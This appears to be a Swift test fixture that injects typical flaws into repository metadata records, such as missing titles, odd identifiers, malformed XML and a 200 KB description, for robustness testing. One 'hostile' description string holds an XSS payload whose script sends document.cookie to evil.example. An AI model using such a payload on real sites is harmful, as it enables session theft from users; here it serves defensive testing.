/// A typical flaw of repository data, at a fixed position.
package struct AwkwardRecord: Sendable {
    /// A short description of the flaw.
    package let name: String
    /// The position among the records, from 0.
    package let position: Int
    let change: @Sendable (inout RepositoryRecord) -> Void

    /// All awkward records, 11 positions apart, from position 5.
    package static let all = changes.enumerated().map { index, change in
        AwkwardRecord(name: change.name, position: 5 + 11 * index, change: change.apply)
    }

    /// Returns the awkward record at a position.
    static func at(_ position: Int) -> AwkwardRecord? {
        guard position >= 5, (position - 5) % 11 == 0 else { return nil }
        let index = (position - 5) / 11
        return index < all.count ? all[index] : nil
    }

    private static let changes: [(name: String, apply: @Sendable (inout RepositoryRecord) -> Void)] = [
        ("title missing", { $0.elements["title"] = nil }),
        ("title blank", { $0.elements["title"] = [" \n "] }),
        ("two titles", { $0.elements["title", default: []].append("Another title") }),
        ("title with markup", { $0.elements["title"] = ["<b>R&D</b> \"Basics\" 漢字 🚀"] }),
        ("nothing to open", { $0.elements["identifier"] = ["ISBN 978-3-16-148410-0", "oai:x:1"] }),
        ("no identifier at all", { $0.elements["identifier"] = nil }),
        ("a file only", { $0.elements["identifier"] = ["https://repository.example.edu/files/1.pdf"] }),
        ("a handle", { $0.elements["identifier"] = ["hdl:20.500/77"] }),
        ("a DOI of odd characters", { $0.elements["identifier"] = ["doi:10.1002/(SICI)1097<1::AID#2>3.0"] }),
        ("language a name", { $0.elements["language"] = ["English"] }),
        ("language undetermined", { $0.elements["language"] = ["und"] }),
        ("language with a region", { $0.elements["language"] = ["pt_BR"] }),
        (
            "type unknown",
            {
                $0.elements["type"] = ["Miscellanea"]; $0.elements["format"] = nil
            }
        ),
        (
            "type and format missing",
            {
                $0.elements["type"] = nil; $0.elements["format"] = nil
            }
        ),
        (
            "format only",
            {
                $0.elements["type"] = nil; $0.elements["format"] = ["video/webm; codecs=vp9"]
            }
        ),
        ("hostile description", { $0.elements["description"] = [hostile] }),
        ("description of 200 KB", { $0.elements["description"] = [long] }),
        ("all optional elements missing", { $0.elements = $0.elements.filter { required.contains($0.key) } }),
        (
            "subjects repeated and oddly spaced",
            { $0.elements["subject"] = [" Law ", "Law", "law", "", "\tLaw"] }
        ),
        ("metadata missing", { $0.raw = "" }),
        ("metadata of another format", { $0.raw = "<lom xmlns=\"urn:other\"><x/></lom>" }),
        ("a character XML does not know", { $0.raw = "<oops>\u{1}</oops>" }),
        ("an entity nobody declared", { $0.raw = "<oops>&nbsp;</oops>" }),
        ("a prefix nobody declared", { $0.raw = "<x:dc><y:title>T</y:title></x:dc>" }),
        ("no OAI identifier", { $0.identifier = "" }),
    ]

    private static let required = ["title", "identifier"]
    private static let hostile = """
        <p onclick="steal()">Read <a href="javascript:alert(1)">this</a>.
        <script>document.location='https://evil.example/?c='+document.cookie</script><b>Bold</b></p>
        """
    private static let long = String(repeating: "All work and no play makes dull data. ", count: 5_400)
}
